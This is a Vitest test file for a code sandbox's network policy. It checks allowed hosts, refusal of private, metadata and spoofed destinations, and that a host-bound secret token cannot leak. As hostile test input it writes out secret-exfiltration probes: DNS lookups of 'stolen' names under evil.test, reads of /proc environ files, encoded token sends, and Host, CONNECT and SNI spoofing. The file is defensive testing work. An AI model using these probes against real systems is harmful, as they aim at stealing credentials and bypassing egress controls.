/** What a program reaches: the hosts that are allowed, by the programs people use, and nothing else, whatever it tries. */
import { readdirSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import type { JobResult, Network } from '../../src/contract/job.ts';
import { fixedLimits } from '../../src/contract/limits.ts';
import { asEachIdentity, ended, Jail, printed, succeeded } from '../helpers/jail.ts';
import { addresses, World, worldFault } from '../helpers/world.ts';

const reason = worldFault();
const world = new World();
const secret = 'hunter2-b7c1-real-value-of-it';

/** What is heard of each way to fail, in one line. */
const tries = (body: string) => `
import socket, ssl, urllib.request
def get(url, **headers):
    return urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=8).read().decode()
def dial(host, port):
    return socket.create_connection((host, port), timeout=8)
def say(words, host='api.example.com', port=80):
    s = dial(host, port); s.sendall(words); s.shutdown(1)
    return b''.join(iter(lambda: s.recv(65536), b'')).decode('latin1')
def tls(host, name):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    return c.wrap_socket(dial(host, 443), server_hostname=name).version()
try:
    print(${body})
except Exception as error:
    print(type(error).__name__, getattr(error, 'code', ''))
`;

const attempt = (jail: Jail, body: string, network: Network = ['api.example.com']): Promise<JobResult> =>
	jail.python(tries(body), { network });

/** What the model reads about the network. */
const told = ({ problem }: JobResult): string => {
	expect(problem).toMatchObject({ code: 'NETWORK_REFUSED' });
	return problem?.message ?? '';
};

const hosts = ['api.example.com', 'www.example.com', 'mail.example.com:2525', 'mail.example.com:7777'];
const hello = (server: string): string => `${server} GET / api.example.com`;

/** Programs that know nothing of us, in each language. */
const clients: [string, 'python' | 'javascript' | 'bash', string][] = [
	['urllib', 'python', 'import urllib.request as u\nprint(u.urlopen("URL").read().decode())'],
	[
		'http.client',
		'python',
		'import http.client as h\nc = (h.HTTPSConnection if "URL".startswith("https") else h.HTTPConnection)("api.example.com")\nfor _ in range(2):\n    c.request("GET", "/"); t = c.getresponse().read().decode()\nprint(t)',
	],
	['fetch', 'javascript', 'console.log(await (await fetch("URL")).text())'],
	[
		'node:http',
		'javascript',
		'const m = await import("URL".startsWith("https") ? "node:https" : "node:http"); m.get("URL", (r) => { r.setEncoding("utf8"); let t = ""; r.on("data", (d) => { t += d; }); r.on("end", () => console.log(t)); });',
	],
	['curl', 'bash', 'curl --silent --show-error --fail URL/; echo'],
	['wget', 'bash', 'wget --quiet --output-document=- URL/; echo'],
];

test.runIf(process.env.CI && process.getuid?.() === 0)('a world can be made where it must be', () => {
	expect(reason).toBeNull();
});

describe.skipIf(reason !== null)(`in a world of its own${reason === null ? '' : ` (skipped: ${reason})`}`, () => {
	beforeAll(() => world.open());
	afterAll(() => world.close());

	asEachIdentity(
		(jail) => {
			describe('an allowed host', () => {
				test.each(clients)('is reached by %s over HTTP and HTTPS', async (name, language, code) => {
					for (const scheme of ['http', 'https']) {
						const url = `${scheme}://api.example.com`;
						// Node.js has its own list of certificates.
						const env = language === 'javascript' ? { NODE_EXTRA_CA_CERTS: '/etc/ssl/certs/ca-certificates.crt' } : {};
						const job = {
							language,
							code: code.replaceAll('URL', url),
							network: hosts,
							env,
							limits: { memoryBytes: 256 << 20 },
						};
						expect({ name, text: printed(await jail.run(job)).trim() }).toEqual({ name, text: hello(scheme) });
					}
				});

				test('is reached at the port that is listed, whoever speaks first', async () => {
					const code = `(lambda s: (s.recv(99), s.sendall(b'EHLO x\\r\\n'), s.recv(99)))(dial('mail.example.com', 2525))`;
					expect(printed(await attempt(jail, code, hosts))).toBe("(b'220 mail\\r\\n', None, b'250 EHLO x\\r\\n')\n");
					const echo = `say(b'\\x00\\x01binary' * 50000, 'mail.example.com', 7777) == '\\x00\\x01binary' * 50000`;
					expect(printed(await attempt(jail, echo, hosts))).toBe('True\n');
				});

				test('answers a client that ends its side first', async () => {
					const words = `say(b'GET / HTTP/1.0\\r\\nHost: api.example.com\\r\\n\\r\\n').split('\\r\\n')[-1]`;
					expect(printed(await attempt(jail, words)).trim()).toBe(hello('http'));
				});

				test('is reached by a wildcard, which does not mean the name itself', async () => {
					expect(printed(await attempt(jail, "get('http://a.example.org/')", ['*.example.org'])).trim()).toBe(
						'http GET / a.example.org',
					);
					expect(told(await attempt(jail, "get('http://example.org/')", ['*.example.org']))).toContain(
						'example.org (not allowed)',
					);
				});

				test('is reached over IPv6 by a program that has none', async () => {
					const result = await attempt(jail, "get('http://six.example.com/')", ['six.example.com']);
					expect(printed(result).trim()).toBe('six GET / six.example.com');
				});

				test('at a private address is reached when the author lists the address', async () => {
					const network = ['inside.example.com', '10.9.0.0/16'];
					expect(printed(await attempt(jail, "get('http://inside.example.com/')", network)).trim()).toBe(
						'private GET / inside.example.com',
					);
				});

				test('may answer slowly, and be read slowly', async () => {
					expect(printed(await attempt(jail, "get('http://api.example.com/slow')"))).toBe(`${'drop '.repeat(10)}\n`);
					const slow = `
import socket, time
s = socket.create_connection(('api.example.com', 80)); s.sendall(b'GET /big/3000000 HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n')
total = 0
while chunk := s.recv(200000):
    total += len(chunk); time.sleep(0.05)
print(total > 3000000)`;
					expect(printed(await jail.python(slow, { network: hosts }))).toBe('True\n');
				});

				test('takes a large body', async () => {
					const code = `len(urllib.request.urlopen('http://api.example.com/', data=b'x' * 5000000).read())`;
					expect(printed(await attempt(jail, code))).toBe(`${'http POST / api.example.com '.length + 5_000_000}\n`);
				});

				test('takes 200 connections at a time', async () => {
					const code = `
import socket
open_ = [socket.create_connection(('api.example.com', 80), timeout=20) for _ in range(200)]
for s in open_: s.sendall(b'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nConnection: close\\r\\n\\r\\n')
print(sum(b'200 OK' in s.recv(9999) for s in open_))`;
					expect(printed(await jail.python(code, { network: hosts }))).toBe('200\n');
				});
			});

			describe('everything else', () => {
				const none = ['api.example.com'];
				test.each<[string, string, string, string, Network]>([
					['another host', "get('http://other.example.net/')", 'URLError', 'other.example.net (not allowed)', none],
					['a subdomain', "get('http://x.api.example.com/')", 'URLError', 'x.api.example.com (not allowed)', none],
					[
						'another port',
						"say(b'', port=2525)",
						'',
						'api.example.com:2525 (this port is not allowed)',
						[...none, 'www.example.com:2525'],
					],
					[
						'a name for a private address',
						"get('http://inside.example.com/')",
						'HTTPError 502',
						'inside.example.com:80 (the name leads to a private address)',
						['*.example.com'],
					],
					[
						'a name for the metadata service',
						"get('http://metadata.example.com/')",
						'HTTPError 502',
						'metadata.example.com:80 (the name leads to a private address)',
						['*.example.com'],
					],
					[
						'a private address dressed as IPv6',
						"get('http://mapped.example.com/')",
						'HTTPError 502',
						'mapped.example.com:80 (the name leads to a private address)',
						['*.example.com'],
					],
					[
						'a name that leads nowhere',
						"get('http://nowhere.example.com/')",
						'HTTPError 502',
						'nowhere.example.com:80 (the name leads nowhere)',
						['*.example.com'],
					],
					[
						'another Host',
						"get('http://api.example.com/', Host='other.example.net')",
						'HTTPError 403',
						'api.example.com:80 (the request was for another host (other.example.net))',
						none,
					],
					[
						'a tunnel',
						"say(b'CONNECT other.example.net:22 HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n')[:12]",
						'HTTP/1.1 403',
						'api.example.com:80 (the request was for another host (other.example.net:22))',
						none,
					],
					[
						'another server name',
						"tls('api.example.com', 'other.example.net')",
						'SSLEOFError|SSLZeroReturnError|ConnectionResetError',
						'api.example.com:443 (the request was for another host (other.example.net))',
						none,
					],
					[
						'no server name',
						"tls('api.example.com', None)",
						'SSLEOFError|SSLZeroReturnError|ConnectionResetError',
						'api.example.com:443 (the connection does not name its host)',
						none,
					],
					[
						'another language at a web port',
						"say(b'SSH-2.0-x\\r\\n')",
						'|ConnectionResetError',
						'api.example.com:80 (only HTTP and TLS are understood at this port)',
						none,
					],
					[
						'a request behind an empty line',
						"say(b'\\r\\nGET / HTTP/1.1\\r\\nHost: other.example.net\\r\\n\\r\\n')",
						'|ConnectionResetError',
						'api.example.com:80 (only HTTP and TLS are understood at this port)',
						none,
					],
					[
						'an address of ours that no name has',
						"get('http://127.1.0.200/')",
						'.*',
						'127.1.0.200:80 (only names can be reached, no bare addresses)',
						none,
					],
				])('is refused and named: %s', async (_what, body, output, message, network) => {
					const { result, seen } = await world.during(() => attempt(jail, body, network));
					expect(result.stdout.trim()).toMatch(new RegExp(`^(?:${output}) ?$`));
					expect(told(result)).toBe(
						`The network refused by policy: ${message}; allowed: ${network.toString().replaceAll(',', ', ')}.`,
					);
					expect(seen.filter(({ server }) => server !== 'dns')).toEqual([]);
				});

				test.each([
					addresses.public,
					addresses.private,
					'169.254.169.254',
					'8.8.8.8',
					addresses.six,
					'::ffff:10.9.9.9',
				])('is out of reach by its address: %s', async (address) => {
					const result = await attempt(jail, `dial('${address}', 80)`);
					expect(printed(result)).toMatch(/^(OSError|ConnectionRefusedError|PermissionError) \n$/);
				});

				test('that the second request of a connection is for is refused', async () => {
					const get = (host: string) => `GET / HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n`;
					const body = `say(b'${get('api.example.com')}${get('other.example.net')}').count('HTTP/1.1 ')`;
					const { result, seen } = await world.during(() => attempt(jail, body));
					expect(result.stdout).toBe('2\n');
					expect(told(result)).toContain('the request was for another host (other.example.net)');
					expect(seen.filter(({ host }) => host === 'other.example.net')).toEqual([]);
				});

				test('that an allowed host points to is out of reach', async () => {
					const { result, seen } = await world.during(() => attempt(jail, "get('http://api.example.com/redirect')"));
					expect(result.stdout).toBe('URLError \n');
					expect(seen.filter(({ server }) => server === 'private')).toEqual([]);
				});

				test('is out of reach when a name changes where it leads', async () => {
					const body = "get('http://moving.example.com/')";
					expect(printed(await attempt(jail, body, ['moving.example.com'])).trim()).toBe(
						'http GET / moving.example.com',
					);
					world.move('moving.example.com', addresses.private);
					const { result, seen } = await world.during(() => attempt(jail, body, ['moving.example.com']));
					expect(told(result)).toContain('moving.example.com:80 (the name leads to a private address)');
					expect(seen).toEqual([]);
					world.move('moving.example.com', addresses.public);
				});

				test('learns nothing from the names that a program asks for', async () => {
					const code = `
import socket
for index in range(40):
    for end in ('evil.test', 'example.org', 'x.a.example.org'):
        try: socket.getaddrinfo(f'stolen{index}.{end}', 80)
        except OSError: pass`;
					const { result, seen } = await world.during(() => jail.python(code, { network: ['*.a.example.org'] }));
					expect(told(result)).toContain('stolen0.evil.test (not allowed)');
					expect(seen).toEqual([]);
				});

				test.each<[Network]>([['none'], [[]], [['10.0.0.0/8']]])('is out of reach with %j', async (network) => {
					const result = await attempt(jail, "get('http://api.example.com/')", network);
					expect(printed(result)).toBe('URLError \n');
				});
			});

			describe('the public internet', () => {
				test('is reached with "full", and nothing that is private', async () => {
					const body = `[get('http://other.example.net/'), *[str(type(e)) for e in [1]]][0]`;
					expect(printed(await attempt(jail, body, 'full')).trim()).toBe('other GET / other.example.net');
					for (const name of ['inside', 'metadata', 'mapped'])
						expect(told(await attempt(jail, `get('http://${name}.example.com/')`, 'full'))).toContain(
							`${name}.example.com:80 (the name leads to a private address); allowed: every public host.`,
						);
				});
			});

			describe('inside the jail', () => {
				test('programs talk to each other as without a network', async () => {
					const code = `
import http.server, threading, urllib.request
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self): self.send_response(200); self.end_headers(); self.wfile.write(b'mine')
    def log_message(self, *a): pass
s = http.server.HTTPServer(('127.0.0.1', 9999), Handler); threading.Thread(target=s.serve_forever, daemon=True).start()
print(urllib.request.urlopen('http://localhost:9999/').read())`;
					expect(printed(await jail.python(code, { network: hosts }))).toBe("b'mine'\n");
				});

				test('nothing is left of the way in: no descriptor, no variable, no right', async () => {
					const code =
						'ls /proc/self/fd | tr "\\n" " "; env | grep -c NODE_CHANNEL; grep -h Cap /proc/self/status | grep -v CapBnd | tr -d "\\t\\n"';
					const fresh = await jail.bash(code, { network: hosts });
					expect(fresh.stdout).toBe(
						'0 1 2 3 0\nCapInh:0000000000000000CapPrm:0000000000000000CapEff:0000000000000000CapAmb:0000000000000000',
					);
				});
			});

			describe('a job', () => {
				test('has no use for what another was given', async () => {
					const holder = jail.python(
						"import socket, time\nprint(socket.gethostbyname('api.example.com'), flush=True)\ntime.sleep(2)",
						{ network: hosts },
					);
					await sleep(500);
					const thief = await attempt(jail, "get('http://127.1.0.1/')", ['www.example.com']);
					expect(told(thief)).toContain('127.1.0.1:80 (only names can be reached, no bare addresses)');
					expect(printed(await holder)).toBe('127.1.0.1\n');
				});

				test('that ends ends its connections', async () => {
					const code = `
import socket
s = socket.create_connection(('api.example.com', 80)); s.sendall(b'GET /hang HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n'); print(len(s.recv(10)))`;
					const { result, seen } = await world.during(() => jail.python(code, { network: hosts }));
					expect(printed(result)).toBe('10\n');
					expect(seen.map(({ url, closed }) => url ?? closed)).toEqual(['/hang', '/hang']);
				});

				test('is cut off when it moves more than its share', async () => {
					const code = `
import urllib.request
total = 0
try:
    r = urllib.request.urlopen('http://api.example.com/endless')
    while chunk := r.read(1 << 20): total += len(chunk)
except Exception as error: pass
try: urllib.request.urlopen('http://api.example.com/'); print('still there')
except Exception: pass
print(total)`;
					const result = await jail.python(code, { network: hosts });
					const total = Number(result.stdout);
					expect(total).toBeGreaterThan(fixedLimits.networkBytes - (8 << 20));
					expect(total).toBeLessThanOrEqual(fixedLimits.networkBytes);
					expect(told(result)).toContain('(too much data)');
				});

				test('gets no more connections at a time than its share', async () => {
					const code = `
import socket
open_ = []
for _ in range(300):
    try: s = socket.create_connection(('mail.example.com', 7777), timeout=9); s.sendall(b'x'); open_.append(s)
    except OSError: pass
answered = 0
for s in open_:
    try: answered += s.recv(1) == b'x'
    except OSError: pass
print(answered)`;
					const result = await jail.python(code, { network: hosts, limits: { openFiles: 1024 } });
					expect(result.stdout).toBe(`${fixedLimits.connections}\n`);
					expect(told(result)).toContain('mail.example.com:7777 (too many connections at a time)');
				});

				test('that abuses every socket does no harm', async () => {
					const code = `
import os, socket, struct, random, time
for n in range(600):
    s = socket.socket(); s.connect((socket.gethostbyname('api.example.com'), random.choice((80, 443, 2525, 7777))))
    s.sendall(os.urandom(random.randrange(1, 400)) if n % 3 else b'\\x16\\x03\\x01\\x00')
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
    if n % 2: s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
end = time.time() + 2
while time.time() < end: u.sendto(os.urandom(random.randrange(0, 900)), ('127.0.0.1', 53))
print('done')`;
					const [abuser, neighbour] = await Promise.all([
						jail.python(code, { network: hosts, limits: { openFiles: 1024 } }),
						sleep(300).then(() => attempt(jail, "get('http://api.example.com/')")),
					]);
					expect(abuser.stdout).toBe('done\n');
					expect(printed(neighbour).trim()).toBe(hello('http'));
				});

				test('leaves no socket behind, fifty times', async () => {
					const code = `
import socket
s = socket.create_connection(('api.example.com', 80)); s.sendall(b'GET /hang HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n'); s.recv(1)
t = socket.create_connection(('api.example.com', 443)); t.sendall(b'\\x16')`;
					// Boxes that wait hold sockets, too.
					const plain = new Jail(jail.identity, ['--concurrency', '4'], { world, env: { SECURE_CODE_WARM: 'off' } });
					await plain.open(false);
					onTestFinished(() => plain.close());
					const job = () => plain.python(code, { network: hosts });
					const sockets = async () => {
						await sleep(300);
						return readdirSync(`/proc/${plain.pid}/fd`).length;
					};
					await Promise.all([job(), job(), job(), job()]);
					const before = await sockets();
					const results = await Promise.all(Array.from({ length: 50 }, job));
					expect(results.map(ended)).toEqual(results.map(() => succeeded));
					expect(await sockets()).toBeLessThanOrEqual(before + 2);
				});
			});

			describe('a secret that is bound to a host', () => {
				const bound = (code: string, more: object = {}) =>
					jail.python(code, { network: hosts, secrets: ['TOKEN'], ...more });

				test.each(clients)('reaches it by %s over HTTP and HTTPS, and no one else', async (_name, language, code) => {
					const withHeader = code
						.replace(
							'u.urlopen("URL")',
							'u.urlopen(u.Request("URL", headers={"Authorization": "Bearer " + __import__("os").environ["TOKEN"]}))',
						)
						.replace(
							'c.request("GET", "/")',
							'c.request("GET", "/", headers={"Authorization": "Bearer " + __import__("os").environ["TOKEN"]})',
						)
						.replace('fetch("URL")', 'fetch("URL", { headers: { authorization: "Bearer " + process.env.TOKEN } })')
						.replace('m.get("URL",', 'm.get("URL", { headers: { authorization: "Bearer " + process.env.TOKEN } },')
						.replace('curl', 'curl --header "Authorization: Bearer $TOKEN"')
						.replace('wget', 'wget --header "Authorization: Bearer $TOKEN"');
					for (const scheme of ['http', 'https']) {
						const job = {
							...{ language, code: withHeader.replaceAll('URL', `${scheme}://api.example.com`), network: hosts },
							...{ secrets: ['TOKEN'], limits: { memoryBytes: 256 << 20 } },
						};
						const { result, seen } = await world.during(() => jail.run(job));
						expect(printed(result).trim()).toBe(hello(scheme));
						const authorizations = seen.flatMap(({ authorization }) =>
							authorization === undefined ? [] : [authorization],
						);
						expect(new Set(authorizations)).toEqual(new Set([`Bearer ${secret}`]));
					}
				});

				test('is nowhere in the jail, however hostile the program and however talkative the host', async () => {
					const code = `
import base64, json, os, pathlib, subprocess, sys, traceback, urllib.request
token = os.environ['TOKEN']
print(token, token[::-1], token.encode().hex(), base64.b64encode(token.encode()), *token)
def send(url, header='Authorization', value='Bearer ' + token, data=None):
    try:
        r = urllib.request.urlopen(urllib.request.Request(url, headers={header: value}, data=data), timeout=8)
        text = str(r.headers) + r.read().decode()
    except Exception as error:
        text = repr(error); traceback.print_exc()
    print(url, text); print(text[::-1]); print(base64.b64encode(text.encode())); print(' '.join(text))
    pathlib.Path('/work/out').mkdir(exist_ok=True); open('/work/out/notes.txt', 'a').write(text)
    return text
heard = ''
for scheme in ('http', 'https'):
    for path in ('/headers', '/' + token):
        heard += send(f'{scheme}://api.example.com{path}')
    heard += send(f'{scheme}://api.example.com/headers', value='Basic ' + base64.b64encode(b'me:' + token.encode()).decode())
    heard += send(f'{scheme}://api.example.com/headers', header='X-Custom')
    heard += send(f'{scheme}://api.example.com/', data=token.encode())
    heard += send(f'{scheme}://www.example.com/headers')
for path in ('/proc/self/environ', '/etc/resolv.conf', '/opt/secure-code/authority.pem'):
    heard += open(path).read()
heard += subprocess.run('env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr "\\\\0" " "', shell=True, capture_output=True, text=True).stdout
print(json.dumps({'parts': [part in heard for part in ('hunter2', 'b7c1', 'real-value')]}))`;
					const { result, seen } = await world.during(() => bound(code, { limits: { memoryBytes: 256 << 20 } }));
					expect(result.status).toBe('succeeded');
					const spelled = [
						secret,
						[...secret].reverse().join(''),
						Buffer.from(secret).toString('hex'),
						[...secret].join(' '),
					];
					const all = JSON.stringify(result);
					expect(
						[...spelled, Buffer.from(secret).toString('base64').slice(0, 24)].filter((one) => all.includes(one)),
					).toEqual([]);
					expect(result.stdout).toContain('{"parts": [false, false, false]}');
					const given = seen.filter(({ authorization }) => String(authorization).includes(secret));
					expect(given.map(({ server, host, url }) => `${server} ${host} ${url}`)).toEqual(
						expect.arrayContaining(['http api.example.com /headers', 'https api.example.com /headers']),
					);
					expect(given.filter(({ host }) => host !== 'api.example.com')).toEqual([]);
					expect(seen.filter(({ url }) => String(url).includes(secret))).toEqual([]);
				});

				test('is still masked in a job without a network, which holds the placeholder only', async () => {
					const result = await bound("import os; print(os.environ['TOKEN'][:4], len(os.environ['TOKEN']))", {
						network: 'none',
					});
					expect(printed(result)).toBe('scp_ 36\n');
				});
			});
		},
		{ args: ['--secret', 'TOKEN@api.example.com'], start: { world, env: { TOKEN: secret } } },
	);
});
